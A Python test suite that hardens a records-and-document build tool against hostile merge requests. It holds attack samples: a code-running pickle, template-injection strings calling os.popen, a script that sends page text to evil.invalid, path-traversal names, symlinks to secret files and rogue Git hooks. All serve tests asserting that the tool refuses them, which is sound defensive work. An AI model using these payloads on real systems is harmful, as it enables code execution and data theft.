"""A records repository is untrusted input: nothing from it is executed, nothing outside is read or written.

Each test plays an attacker's merge request in a throwaway Git repository (a pickle, a template,
a symlink, a hook, a hostile name) and was written to fail on the code before the fix.
"""
from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import commit_all, git, write
from kaohe_docs import __version__
from kaohe_docs.cli import main
from kaohe_docs.errors import KaoheError
from kaohe_docs.filenames import inside, safe_name
from kaohe_docs.records.cache import cache_dir

UNIT = "records/2026/Q1/units/solo.yaml"
SYMLINK_REFUSED = "是符号链接，出于安全原因不读取"


def run(*args):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def attacker_branch(root: Path, files: dict, force: tuple = (), name: str = "attack") -> None:
    """Commit ``files`` (and force-add ignored paths) on a branch, and check it out as a reviewer would."""
    git(root, "checkout", "-q", "-b", name)
    write(root, files)
    git(root, "add", "-A")
    for path in force:
        git(root, "add", "-f", path)
    git(root, "commit", "-q", "-m", "看起来无害的修改")


def files_outside(base: Path, *keep: Path) -> set[Path]:
    """Every file under ``base`` except those under the ``keep`` folders."""
    return {p for p in base.rglob("*") if not p.is_dir() and not any(k in p.parents for k in keep)}


class _Marker:
    """Unpickling this object creates ``path`` (standing in for any code an attacker would run)."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


# --- 1. caches: never executed, never trusted ---------------------------------------------------

def test_a_committed_pickle_cache_is_never_executed(mini_git, tmp_path):
    marker = tmp_path / "pwned"
    bomb = pickle.dumps(_Marker(marker))
    attacker_branch(mini_git, {".cache/kaohe/check-result": bomb, ".cache/kaohe/00/" + "0" * 64: bomb},
                    force=(".cache",))
    result = run("-C", str(mini_git), "check")
    assert not marker.exists()
    assert result.exit_code == 0, result.output
    assert ".cache: 警告: 工作区中的 .cache/ 不再使用，kaohe 不会读取它" in result.stderr
    run("-C", str(mini_git), "score", "2026Q1")
    assert not marker.exists()


def test_caches_live_in_the_git_directory_as_plain_json(mini_git):
    assert run("-C", str(mini_git), "check").exit_code == 0
    folder = cache_dir(mini_git)
    assert folder.parent == mini_git / ".git" / "kaohe-cache"
    entries = [p for p in folder.rglob("*") if p.is_file()]
    assert entries and all(p.suffix == ".json" for p in entries)
    for entry in entries:
        json.loads(entry.read_text(encoding="utf-8"))  # plain data, nothing else
    assert not (mini_git / ".cache").exists()


def test_a_same_size_edit_that_keeps_the_mtime_is_seen(mini_git):
    assert run("-C", str(mini_git), "check").exit_code == 0
    path = mini_git / UNIT
    before = os.stat(path)
    text = path.read_text(encoding="utf-8")
    assert "德: 19" in text
    path.write_text(text.replace("德: 19", "德: 29", 1), encoding="utf-8")  # same size
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert os.stat(path).st_size == before.st_size and os.stat(path).st_mtime_ns == before.st_mtime_ns
    result = run("-C", str(mini_git), "check")
    assert result.exit_code == 1
    assert f"{UNIT}:6: 错误: 刘洋（警号 020001）共性要素“德”得分 29 超过满分 20" in result.stderr


# --- 2. templates: sandboxed, read only from regular files inside templates/ ---------------------

def _render_override(root: Path, source: str, name: str = "publicity.html") -> str:
    from kaohe_docs.render.renderer import make_environment, render_html
    write(root, {f"templates/{name}": source})
    return render_html(make_environment(root), name, {})


@pytest.mark.parametrize("attack", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{{ lipsum.__globals__['os'].popen('touch MARKER').read() }}",
    "{{ ''|attr('__class__') }}",
    "{% set x = [] %}{{ x.append(1) }}",
])
def test_a_template_cannot_escape_the_sandbox(mini, tmp_path, attack):
    marker = tmp_path / "pwned"
    with pytest.raises(KaoheError) as caught:
        _render_override(mini, attack.replace("MARKER", str(marker)))
    assert caught.value.message.startswith("模板 publicity.html:1 试图访问不允许的内容，出于安全原因已拒绝")
    assert not marker.exists()


@pytest.mark.slow
def test_a_template_override_escape_fails_the_build_with_a_clear_error(mini_git):
    attacker_branch(mini_git, {"templates/publicity.html": "{{ ''.__class__.__mro__[1].__subclasses__() }}\n"})
    result = CliRunner().invoke(main, ["-C", str(mini_git), "build", "2026Q1", "--html-only"])
    assert result.exit_code == 1
    assert "模板 publicity.html:1 试图访问不允许的内容，出于安全原因已拒绝" in result.stderr
    assert "subprocess" not in result.output and "Popen" not in result.output
    assert not (mini_git / "build/2026Q1").exists()


@pytest.mark.slow
def test_a_script_in_a_template_cannot_run_when_the_html_is_opened(mini_git):
    base = (Path(__file__).parent.parent / "src/kaohe_docs/templates/base.html").read_text(encoding="utf-8")
    hostile = "<script>fetch('https://evil.invalid/?' + document.body.innerText)</script>\n" + base
    attacker_branch(mini_git, {"templates/base.html": hostile})
    result = run("-C", str(mini_git), "-q", "build", "2026Q1", "--html-only")
    assert result.exit_code == 0, result.output
    html = (mini_git / "build/2026Q1/01-公示.html").read_text(encoding="utf-8")
    policy = ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; style-src \'unsafe-inline\' '
              'file: data:; img-src file: data:; font-src file: data:; base-uri \'none\'; form-action \'none\'">')
    assert html.startswith(policy + "<script>")  # enforced by the browser on everything after it


def test_the_content_security_policy_follows_the_doctype():
    from kaohe_docs.render.renderer import with_content_policy
    locked = with_content_policy("<!DOCTYPE html>\n<html><head><script>x()</script>")
    assert locked.startswith('<!DOCTYPE html><meta http-equiv="Content-Security-Policy" content="default-src \'none\';')
    assert locked.index("Content-Security-Policy") < locked.index("<script>")


@pytest.mark.parametrize("include", ["/etc/passwd", "../../x", "../templates/base.html", "sub/x.html", ".hidden"])
def test_includes_outside_templates_are_refused(mini, include):
    with pytest.raises(KaoheError) as caught:
        _render_override(mini, f"{{% include '{include}' %}}")
    assert caught.value.message == (f"拒绝模板“{include}”：模板名“{include}”不允许：只能引用 templates/ 中的文件名，"
                                    "不能含路径（/、\\、..）或以 . 开头")


def test_a_symlinked_template_is_refused_and_reported(mini_git, tmp_path):
    secret = tmp_path / "secret.html"
    secret.write_text("SECRET-TEMPLATE-42", encoding="utf-8")
    git(mini_git, "checkout", "-q", "-b", "attack")
    (mini_git / "templates").mkdir()
    (mini_git / "templates/publicity.html").symlink_to(secret)
    commit_all(mini_git)
    assert git(mini_git, "ls-files", "-s", "templates/publicity.html").startswith("120000")
    with pytest.raises(KaoheError) as caught:
        from kaohe_docs.render.renderer import make_environment, render_html
        render_html(make_environment(mini_git), "publicity.html", {})
    assert caught.value.message == "拒绝模板“publicity.html”：templates/publicity.html 是符号链接，出于安全原因不读取"
    result = run("-C", str(mini_git), "check")
    assert f"templates/publicity.html: 错误: {SYMLINK_REFUSED}" in result.stderr
    assert "SECRET-TEMPLATE-42" not in result.output


@pytest.mark.slow
@pytest.mark.parametrize("markup", [
    '<img src="file://{secret}">',
    '<link rel="stylesheet" href="file://{secret}">',
    '<object data="file://{secret}"></object>',
    '<embed src="file://{secret}">',
    '<link rel="attachment" href="file://{secret}">',
    '<style>body {{ background: url("file://{secret}") }}</style>',
    '<img src="../../../../../../..{secret}">',
])
def test_a_symlinked_fonts_folder_does_not_open_the_file_system_to_weasyprint(mini, tmp_path, markup):
    from kaohe_docs.render.renderer import PdfRenderer, RenderLog
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n" + b"SECRET" * 10)
    (mini / "fonts").symlink_to(outside)  # a branch commits fonts -> a folder outside the repository
    html = f"<html><body><p>x</p>{markup.format(secret=secret)}</body></html>"
    log = RenderLog()
    renderer = PdfRenderer(mini)
    document = renderer.layout(html, log)
    if document is not None:  # attachments are fetched when the PDF is written
        assert renderer.write(document, "x", log) == b""
    assert any(str(secret) in url for url in log.refused), (log.refused, log.warnings)


# --- 3. output paths: names never become paths ---------------------------------------------------

# deep enough to leave build/ (and the repository) from every output folder, shallow enough to land
# in the test's own temporary folders, where the test can see it
HOSTILE_UNIT = "x/../../../../../evil"
HOSTILE_BUREAU = "a/../../../b"


@pytest.mark.slow
def test_hostile_names_never_write_outside_the_output_folders(mini_git, tmp_path):
    text = (mini_git / "records/units.yaml").read_text(encoding="utf-8").replace("name: 法制室", f'name: "{HOSTILE_UNIT}"')
    bureau = (mini_git / "records/bureau.yaml").read_text(encoding="utf-8").replace("name: 清河县公安局", f'name: "{HOSTILE_BUREAU}"')
    attacker_branch(mini_git, {"records/units.yaml": text, "records/bureau.yaml": bureau})
    scope = tmp_path.parent  # this session's temporary folders
    before = files_outside(scope, mini_git / "build", mini_git / ".git")
    assert run("-C", str(mini_git), "check").exit_code in (0, 1)
    build = run("-C", str(mini_git), "-q", "build", "2026Q1", "--html-only")
    assert build.exit_code == 0, build.output
    for fmt in ("--xlsx", "--csv"):
        assert run("-C", str(mini_git), "export", "results", "2026Q1", fmt).exit_code == 0
    sheet = run("-C", str(mini_git), "export", "sheet", "2026Q1", "--unit", "solo")
    assert sheet.exit_code == 0, sheet.output
    assert files_outside(scope, mini_git / "build", mini_git / ".git") - before == set()
    assert sheet.stdout.strip() == str(mini_git / "build/sheets/x_.._.._.._.._.._evil-2026Q1-考核填报表.xlsx")
    written = {p.relative_to(mini_git / "build") for p in (mini_git / "build").rglob("*") if p.is_file()}
    assert Path("2026Q1/04-结果登记表/02-x_.._.._.._.._.._evil.html") in written
    assert Path("sheets/a_.._.._.._b2026Q1平时考核结果.csv") in written


def test_a_committed_build_symlink_is_not_followed(mini_git, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    git(mini_git, "checkout", "-q", "-b", "attack")
    (mini_git / "build").symlink_to(elsewhere)
    git(mini_git, "add", "-f", "build")
    git(mini_git, "commit", "-q", "-m", "build")
    result = CliRunner().invoke(main, ["-C", str(mini_git), "export", "results", "2026Q1"])
    assert result.exit_code == 1
    assert f"{mini_git / 'build'} 是符号链接，出于安全原因不写入" in result.stderr
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("name, safe", [
    ("../../evil", "_.._evil"),
    ("a/../../b", "a_.._.._b"),
    ("CON", "_CON"),
    ("nul.txt", "_nul.txt"),
    ("COM1", "_COM1"),
    ('a<b>c:d"e|f?g*h\\i', "a_b_c_d_e_f_g_h_i"),
    ("trailing. . ", "trailing"),
    (".hidden", "hidden"),
    ("tab\there\x00nul\x1besc\u202eRTL", "tab_here_nul_esc_RTL"),
    ("", "_"),
    ("..", "_"),
    ("刑事侦查大队", "刑事侦查大队"),
])
def test_safe_name_is_safe_on_every_os(name, safe):
    assert safe_name(name) == safe


def test_safe_name_limits_the_length_in_bytes():
    result = safe_name("长" * 400)
    assert len(result.encode("utf-8")) <= 150 and result == "长" * 50


@pytest.mark.parametrize("relative", ["../x", "/etc/passwd", "a/../../x", ""])
def test_inside_refuses_paths_that_leave_the_folder(tmp_path, relative):
    with pytest.raises(KaoheError, match="拒绝写入输出目录以外的位置"):
        inside(tmp_path, relative)


# --- 4. symlinks under records/, policy/, templates/ are refused, never followed ---------------

def test_symlinks_to_files_outside_the_repository_are_refused(mini_git, tmp_path):
    outside = tmp_path / "outside"
    (outside / "Q1/units").mkdir(parents=True)
    secret = outside / "secret.yaml"
    secret.write_text("SECRET-CONTENT-42: [\n", encoding="utf-8")
    (outside / "Q1/units/solo.yaml").write_text("SECRET-CONTENT-43: 1\n", encoding="utf-8")
    git(mini_git, "checkout", "-q", "-b", "attack")
    (mini_git / "records/2026/Q1/units/evil.yaml").symlink_to(secret)
    (mini_git / "records/2027").symlink_to(outside)
    (mini_git / "policy/extra.yaml").symlink_to(secret)
    commit_all(mini_git)
    result = run("-C", str(mini_git), "check")
    assert result.exit_code == 1
    assert f"records/2026/Q1/units/evil.yaml: 错误: {SYMLINK_REFUSED}" in result.stderr
    assert f"records/2027: 错误: {SYMLINK_REFUSED}" in result.stderr
    assert f"policy/extra.yaml: 错误: {SYMLINK_REFUSED}" in result.stderr
    as_json = run("-C", str(mini_git), "check", "--json")
    assert {"file": "records/2027", "line": 0, "level": "error", "message": SYMLINK_REFUSED} in json.loads(as_json.stdout)
    for output in (result.output, as_json.output):
        assert "SECRET-CONTENT" not in output and str(outside) not in output


def test_a_staged_symlink_is_refused_by_the_pre_commit_check(mini_git, tmp_path):
    secret = tmp_path / "secret.yaml"
    secret.write_text("SECRET-CONTENT-44: [\n", encoding="utf-8")
    (mini_git / "records/2026/Q1/units/evil.yaml").symlink_to(secret)
    git(mini_git, "add", "-A")
    result = run("-C", str(mini_git), "check", "--staged")
    assert result.exit_code == 1
    assert f"records/2026/Q1/units/evil.yaml: 错误: {SYMLINK_REFUSED}" in result.stderr
    assert "SECRET-CONTENT" not in result.output


def test_a_symlink_in_a_revision_is_refused_when_building_from_git(mini_git, tmp_path):
    from kaohe_docs.audit.gitrepo import checkout
    from kaohe_docs.pipeline import open_project
    secret = tmp_path / "secret.yaml"
    secret.write_text("SECRET-CONTENT-45: [\n", encoding="utf-8")
    (mini_git / "records/2026/Q1/units/evil.yaml").symlink_to(secret)
    commit_all(mini_git)
    with checkout(mini_git, "HEAD") as (folder, _):
        lines = [d.format() for d in open_project(folder, use_cache=False).diagnostics]
    assert f"records/2026/Q1/units/evil.yaml: 错误: {SYMLINK_REFUSED}" in lines
    assert not any("SECRET" in line for line in lines)


# --- 5. hooks: in .git/hooks, running the installed kaohe ----------------------------------------

@pytest.fixture
def new_repo(tmp_path) -> Path:
    target = tmp_path / "新局"
    assert run("init", str(target)).exit_code == 0
    git(target, "config", "user.name", "考核办")
    git(target, "config", "user.email", "kaohe@example.invalid")
    return target


def _commit(repo: Path, message: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PATH": "/usr/bin:/bin"}  # no kaohe on PATH: the hook must still find the installed one
    return subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", message], capture_output=True, text=True, env=env)


@pytest.mark.slow
def test_a_branch_that_changes_a_tracked_hooks_folder_is_not_run(new_repo, tmp_path):
    marker = tmp_path / "pwned"
    evil = f"#!/bin/sh\ntouch '{marker}'\nexit 0\n"
    for rel in (".githooks/pre-commit", ".husky/pre-commit", "hooks/pre-commit"):
        write(new_repo, {rel: evil})
        os.chmod(new_repo / rel, 0o755)
    git(new_repo, "add", "-A")
    done = _commit(new_repo, "合并的分支")
    assert done.returncode == 0, done.stderr
    write(new_repo, {"records/units.yaml": "units:\n  - {id: a, name: 甲所}\n"})
    git(new_repo, "add", "-A")
    assert _commit(new_repo, "下一次提交").returncode == 0
    assert not marker.exists()


@pytest.mark.slow
def test_the_hook_runs_the_installed_kaohe_not_code_from_the_work_tree(new_repo, tmp_path):
    marker = tmp_path / "pwned"
    shadow = f"open({str(marker)!r}, 'w').close()\n"
    write(new_repo, {"kaohe_docs/__init__.py": shadow, "kaohe_docs/cli/__init__.py": shadow,
                     "kaohe_docs/cli/__main__.py": shadow, "kaohe": f"#!/bin/sh\ntouch '{marker}'\n"})
    os.chmod(new_repo / "kaohe", 0o755)
    git(new_repo, "add", "-A")
    env = {**os.environ, "PATH": f"{new_repo}:/usr/bin:/bin"}
    done = subprocess.run(["git", "-C", str(new_repo), "commit", "-q", "-m", "影子模块"], capture_output=True,
                          text=True, env=env, cwd=new_repo)
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    hook = (new_repo / ".git/hooks/pre-commit").read_text(encoding="utf-8")
    assert f"KAOHE_PYTHON={os.path.abspath(sys.executable)}" in hook and "-P -m kaohe_docs.cli check --staged" in hook


def test_check_warns_about_core_hooks_path_in_the_work_tree(mini_git):
    git(mini_git, "config", "core.hooksPath", ".githooks")
    result = run("-C", str(mini_git), "check")
    assert result.exit_code == 0
    assert (".githooks: 警告: Git 设置 core.hooksPath 指向工作区中的 .githooks/：其中的钩子是版本库里的文件，"
            "任何合并进来的分支都能改变提交时运行的代码") in result.stderr


def test_kaohe_hook_installs_into_git_hooks_of_a_clone(mini_git, tmp_path):
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(mini_git), str(clone)], check=True)
    result = run("-C", str(clone), "hook")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == str(clone / ".git/hooks/pre-commit")
    assert os.access(clone / ".git/hooks/pre-commit", os.X_OK)


@pytest.mark.slow
def test_ci_templates_pin_the_tool_version(new_repo):
    for rel in (".gitlab-ci.yml", ".github/workflows/kaohe.yml"):
        text = (new_repo / rel).read_text(encoding="utf-8")
        assert f'KAOHE_DOCS_VERSION: "{__version__}"' in text, rel
        assert 'pip install --quiet "kaohe-docs==${KAOHE_DOCS_VERSION}"' in text, rel
        assert "pip install ." not in text and "pip install -e" not in text and "KAOHE_DOCS_PIP" not in text, rel
